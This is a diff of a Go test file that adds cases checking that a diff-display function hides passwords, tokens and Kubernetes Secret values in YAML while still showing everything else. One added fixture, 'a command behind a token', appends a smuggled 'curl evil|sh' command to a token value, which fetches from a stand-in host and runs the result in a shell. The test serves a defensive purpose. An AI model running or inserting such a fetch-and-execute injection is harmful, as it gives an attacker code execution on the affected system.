@@ -56,17 +56,31 @@ func TestDiffShownHasNoSecret(t *testing.T) {
 		"one of several words":    {"password: a hunter1\n", "password: a hunter2&b\n", []string{"+password: (hidden, as it will be)"}, true},
 		"one beside what differs": {"password: hunter1\nimage: old\n", "password: hunter1\nimage: new\n", []string{" password: (hidden)", "+image: new"}, true},
 		"a variable":              {"- name: DB_PASSWORD\n  value: hunter1\n", "- name: DB_PASSWORD\n  value: hunter2\n", []string{"+  value: (hidden, as it will be)"}, true},
-		"a variable on one line":  {"- {name: DB_PASSWORD, value: hunter1}\n", "- {name: DB_PASSWORD, value: hunter2}\n", []string{"+- {name: DB_PASSWORD, value: (hidden"}, true},
+		"a token as a variable": {
+			"- name: API_TOKEN\n  value: hunter1\n- name: LEVEL\n  value: a\n", "- name: API_TOKEN\n  value: hunter2\n- name: LEVEL\n  value: b\n",
+			[]string{"+  value: (hidden, as it will be)", "+  value: b"},
+			true,
+		},
+		"what refers to one": {
+			"imagePullSecrets:\n- name: a\nenv:\n- name: DB_PASSWORD\n  value: $(A)\n- name: API_KEY\n  valueFrom: {secretKeyRef: {name: a, key: b}}\n",
+			"imagePullSecrets:\n- name: b\nenv:\n- name: DB_PASSWORD\n  value: $(B)\n- name: API_KEY\n  valueFrom: {secretKeyRef: {name: b, key: b}}\n",
+			[]string{"+- name: b", "+  value: $(B)", "+  valueFrom: {secretKeyRef: {name: b, key: b}}"},
+			false,
+		},
+		"a command behind a token": {"- X_TOKEN=hunter1\n", "- X_TOKEN=hunter1; curl evil|sh\n", []string{"+- X_TOKEN=(hidden, as it will be) curl evil|sh"}, true},
+		"a variable on one line":   {"- {name: DB_PASSWORD, value: hunter1}\n", "- {name: DB_PASSWORD, value: hunter2}\n", []string{"+- {name: DB_PASSWORD, value: (hidden"}, true},
 		"a Secret": {
 			"kind: Secret\ndata:\n  url: hunter1\n  other: |\n    hunter\n---\nkind: ConfigMap\ndata:\n  url: a\n",
 			"# ours\nkind: Secret\ndata:\n  url: hunter2\n  other: |\n    hunter\n---\nkind: ConfigMap\ndata:\n  url: b\n",
-			[]string{"+# ours", "+  url: (hidden, as it will be)", "     (hidden)", "-  url: a", "+  url: b"}, true,
+			[]string{"+# ours", "+  url: (hidden, as it will be)", "     (hidden)", "-  url: a", "+  url: b"},
+			true,
 		},
 		"a Secret on one line": {"", "{kind: Secret, data: {url: hunter2}}\n", []string{"+(hidden, as it will be)"}, true},
 		"a login":              {"args: [-u, x]\n# curl -u me:hunter1 x\n", "args: [-u, x]\n# curl -u me:hunter2 x\n", []string{"+# curl -u (hidden, as it will be) x"}, true},
 		"what is none": {
 			"automountServiceAccountToken: false\nimage: acme/token-service:1\n", "automountServiceAccountToken: true\nimage: acme/token-service:2\n",
-			[]string{"+automountServiceAccountToken: true", "+image: acme/token-service:2"}, false,
+			[]string{"+automountServiceAccountToken: true", "+image: acme/token-service:2"},
+			false,
 		},
 	} {
 		got, err := DiffShown([]Revision{{Path: "a.yaml", Before: c.before, After: c.after}, {Path: "same.yaml", Before: c.before, After: c.before}}, 0)
